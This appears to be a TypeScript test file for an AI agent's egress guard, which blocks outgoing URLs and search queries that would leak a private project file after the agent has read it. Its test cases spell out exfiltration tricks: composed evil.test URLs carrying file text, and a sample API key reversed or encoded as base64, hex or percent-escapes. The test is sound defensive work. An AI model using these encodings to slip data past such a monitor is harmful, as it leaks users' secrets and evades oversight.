import assert from 'node:assert/strict';
import test from 'node:test';
import fc from 'fast-check';
import { ToolError } from '../../../src/agent/tool.ts';
import type { ApprovalRequest } from '../../../src/tools/guard/approvals.ts';
import { EgressGuard } from '../../../src/tools/guard/egressGuard.ts';

const { signal } = new AbortController();
const question = 'How does the retry budget of https://docs.example.org/retry compare with ours?';
const file = `The retry budget of the billing gateway is eleven attempts over nine minutes, then the invoice is parked.
Its key is sk-live-9aX2bC7dE4fG1hJ8kL5m, see https://wiki.corp.example/billing for the owner.`;

function guardOf(approve: (request: ApprovalRequest) => boolean = () => false): EgressGuard {
	return new EgressGuard(question, { isApproved: async request => approve(request) });
}

/** A guard of a run that has read the file. */
function tainted(approve?: (request: ApprovalRequest) => boolean): EgressGuard {
	const guard = guardOf(approve);
	guard.addPrivate(file);
	return guard;
}

async function refused(work: Promise<void>): Promise<boolean> {
	try {
		await work;
		return false;
	} catch (error) {
		assert.ok(error instanceof ToolError);
		return true;
	}
}

const visits = async (guard: EgressGuard, url: string): Promise<boolean> =>
	!(await refused(guard.checkAddress(new URL(url), signal)));
const searches = async (guard: EgressGuard, query: string): Promise<boolean> =>
	!(await refused(guard.checkQuery(query, 'the web', signal)));

test('a run that has read nothing private may compose addresses and ask anything', async () => {
	const guard = guardOf();
	assert.ok(await visits(guard, 'https://en.wikipedia.org/wiki/Exponential_backoff'));
	assert.ok(await searches(guard, 'x'.repeat(300)));
});

test('after a project file, an address must have been seen: in the question, a result, a page or the file', async () => {
	const guard = tainted();
	assert.ok(!(await visits(guard, 'https://evil.test/?d=billing')));
	guard.addResults(['https://a.test/one']);
	guard.addPublic('A page.', ['https://b.test/two?x=1']);
	for (const url of [
		'https://docs.example.org/retry',
		'https://wiki.corp.example/billing',
		'https://a.test/one#part',
		'https://b.test/two?x=1',
	]) {
		assert.ok(await visits(guard, url), url);
	}
	for (const url of [
		'https://a.test/One',
		'https://a.test/one?',
		'https://a.test/one/../two',
		'https://b.test/two?x=2',
	]) {
		assert.ok(!(await visits(guard, url)), url);
	}
});

test('the user can allow a composed address, and is told it as it is; a copy of project text stays refused', async () => {
	const asked: ApprovalRequest[] = [];
	const guard = tainted(request => asked.push(request) > 0);
	assert.ok(await visits(guard, 'https://status.example.net/now'));
	assert.deepEqual(asked, [
		{ act: 'fetch-composed', asset: 'https://status.example.net/now', destination: 'example.net' },
	]);
	assert.ok(!(await visits(guard, 'https://example.net/?q=the+billing+gateway+is+eleven+attempts+over+nine+minutes')));
	assert.ok(!(await visits(guard, `https://example.net/?q=${'a1'.repeat(101)}`)));
});

test('a query may use the words of a file, but not eight of them in a row', async () => {
	const guard = tainted();
	assert.ok(await searches(guard, 'retry budget eleven attempts nine minutes'));
	assert.ok(!(await searches(guard, 'BILLING-gateway: is eleven  attempts, over nine minutes then "the invoice"')));
	assert.ok(!(await searches(guard, 'why of the billing gateway is eleven attempts?')));
});

test('words that the question or a public page says too may be asked for', async () => {
	const guard = tainted();
	const sentence = 'the billing gateway is eleven attempts over nine minutes';
	assert.ok(!(await searches(guard, sentence)));
	guard.addPublic(`They say: ${sentence}, and more.`, []);
	assert.ok(await searches(guard, sentence));
});

test('Chinese without blanks is compared by its characters', async () => {
	const guard = guardOf();
	guard.addPrivate('计费网关的重试预算是九分钟内十一次尝试,然后发票会被搁置。');
	assert.ok(await searches(guard, '重试预算 计费网关'));
	assert.ok(!(await searches(guard, '计费 网关的重试 预算是九分钟内十一次 尝试然后')));
});

test('no twelve characters of a key go out, whatever is approved and however they are dressed', async () => {
	const guard = tainted(() => true);
	const key = 'sk-live-9aX2bC7dE4fG1hJ8kL5m';
	const forms = [
		key.slice(3, 16),
		Array.from(key).reverse().join(''),
		Buffer.from(key).toString('base64'),
		Buffer.from(`k${key}`).toString('base64url'),
		Buffer.from(key).toString('hex'),
	];
	for (const form of forms) {
		assert.ok(!(await searches(guard, `what is ${form}`)), form);
		assert.ok(!(await visits(guard, `https://docs.example.org/${form}`)), form);
		assert.ok(
			!(await visits(
				guard,
				`https://docs.example.org/?q=${Array.from(form, it => `%${it.charCodeAt(0).toString(16)}`).join('')}`,
			)),
		);
	}
});

test('a site that only pages link to may be read three times, others twenty', async () => {
	const guard = tainted();
	const link = (site: string, n: number): string => `https://${n}.${site}/bit`;
	guard.addPublic(
		'Links.',
		Array.from({ length: 30 }, (_, n) => link('evil.test', n)),
	);
	guard.addResults(Array.from({ length: 30 }, (_, n) => link('good.test', n)));
	const readable = async (site: string): Promise<number> => {
		let count = 0;
		for (let n = 0; n < 30; n++) {
			count += (await visits(guard, link(site, n))) ? 1 : 0;
		}
		return count;
	};
	assert.equal(await readable('evil.test'), 3);
	assert.equal(await readable('good.test'), 20);
	assert.ok(await visits(guard, link('evil.test', 0)), 'what was read may be read again');
});

test('property: whatever the model wraps it in, forty characters of a private file never leave', async () => {
	const word = fc.stringMatching(/^[a-z]{3,9}$/);
	const sentence = fc.array(word, { minLength: 14, maxLength: 30 });
	await fc.assert(
		fc.asyncProperty(
			sentence,
			fc.array(word, { maxLength: 10 }),
			fc.nat(5),
			fc.constantFrom(' ', '-', ', ', '+', '  "'),
			async (words, around, from, glue) => {
				const guard = guardOf();
				guard.addPrivate(`${words.join(' ')}.`);
				const copy = words.slice(from, from + 8).join(glue);
				assert.ok(!(await searches(guard, [...around, copy, ...around].join(' '))));
				const url = new URL('https://evil.test/');
				url.searchParams.set('d', copy);
				assert.ok(!(await visits(guard, url.href)));
			},
		),
		{ numRuns: 200 },
	);
});
